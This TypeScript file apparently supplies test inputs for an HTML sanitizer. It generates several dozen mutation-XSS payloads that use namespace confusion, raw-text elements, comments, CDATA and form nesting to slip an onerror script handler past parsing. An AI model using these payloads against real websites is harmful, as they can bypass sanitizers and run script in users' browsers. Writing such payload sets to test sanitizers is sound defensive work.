import type {Family} from "./family.js"

/// Markup that means something else when it is written out and read again, or in another place: names that change their
/// namespace, comments and raw text that end elsewhere, tags the parser moves.
export const mutations: Family = ({run}) => {
  const bad = `<img src=data:, onerror=${run}>`
  const hidden = `<a title="%</X>${bad}">`
  /// `bad` in an attribute, behind the end tag of an element that is raw text in one reading only.
  const behind = (name: string) => hidden.replace("%", "").replace("X", name)
  const raw = ["style", "title", "noscript", "textarea", "xmp", "iframe", "noembed", "noframes", "script", "template"]
  return [
    ...raw.map(name => `<svg><${name}>${behind(name)}</${name}></svg>`),
    ...raw.slice(0, 4).map(name => `<math><${name}>${behind(name)}</${name}></math>`),
    ...raw.map(name => `<${name}>${behind(name)}`),
    `<math><mtext><table><mglyph><style><!--</style>${hidden.replace("%", "--&gt;").replace("</X>", "")}`,
    `<math><mtext><table><malignmark><style><!--</style><a title="--&gt;${bad}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${bad}`,
    `<form><form><math><mtext><form><mglyph><svg><mtext><style><path id="</style>${bad}">`,
    `<div><form id=a><p></form><form><svg></p><style>${behind("style")}`,
    `<svg></p><style>${behind("style")}`,
    `<math></br><style>${behind("style")}`,
    `<svg><desc><table><tr><svg><style>${behind("style")}`,
    `<svg><foreignObject><p><svg><style>${behind("style")}</style></svg></p></foreignObject></svg>`,
    `<math><annotation-xml encoding="text/html"><style>${behind("style")}</annotation-xml></math>`,
    `<math><annotation-xml encoding="application/xhtml+xml"><svg><style>${behind("style")}`,
    `<math><annotation-xml><p>${behind("annotation-xml")}`,
    `<math><annotation-xml encoding="TEXT/html"><xmp>${behind("xmp")}`,
    `<math><mi><li><table><mglyph><style>${behind("style")}`,
    `<select><style>${behind("style")}</select>`,
    `<select><template><style>${behind("style")}</template></select>`,
    `<select><math><mtext><option>${bad}</select>`,
    `<table><svg><style>${behind("style")}</table>`,
    `<table><tr><td><svg><style>${behind("style")}`,
    `<table><caption><svg><title></caption>${bad}`,
    `<table>${bad}<tr><td>Bridge</table>`,
    `<a><table><a>${bad}</table></a>`,
    `<b><p><b><p><b><svg><style>${behind("style")}`,
    `<template><svg><style>${behind("style")}</style></svg></template>`,
    `<noscript><p title="</noscript>${bad}"></noscript>`,
    `<noscript><!--</noscript>${bad}--></noscript>`,
    `<noscript><style></noscript>${bad}</style>`,
    `<style><!--</style>${bad}--></style>`,
    `<style><style/><p title="</style>${bad}">`,
    `<title><!--</title>${bad}-->`,
    `<!--><p>${bad}-->`,
    `<!--x--!>${bad}<!--`,
    `<!--<!--x-->${bad}-->`,
    `<!-- ><${bad} -- >--!>${bad}`,
    `<!${bad}>`,
    `<?xml ?>${bad}?>`,
    `</ ${bad}>`,
    `<![CDATA[${bad}]]>`,
    `<svg><![CDATA[</svg>${bad}]]></svg>`,
    `<svg><style><![CDATA[</style>${bad}]]></style></svg>`,
    `<math><mi><![CDATA[</mi></math>${bad}]]>`,
    `<!doctype html [<!entity a "${bad}">]><p>&a;`,
    `<svg><p><style>${behind("style")}</style></p></svg>`,
    `<svg><font color=red><title>${behind("title")}`,
    `<plaintext>${bad}`,
    `<frameset><noframes>${bad}</noframes></frameset>`,
    `<p title="&lt;img src=data:, onerror=${run}&gt;">Bridge</p>`,
    `<p>&lt;img src=data:, onerror=${run}&gt;</p>`,
    `<listing>\n&lt;img src=data:, onerror=${run}&gt;</listing>`,
    `<p title='"&gt;${bad}'>Bridge`,
    `<p title="\`&gt;${bad}">Bridge`,
  ]
}
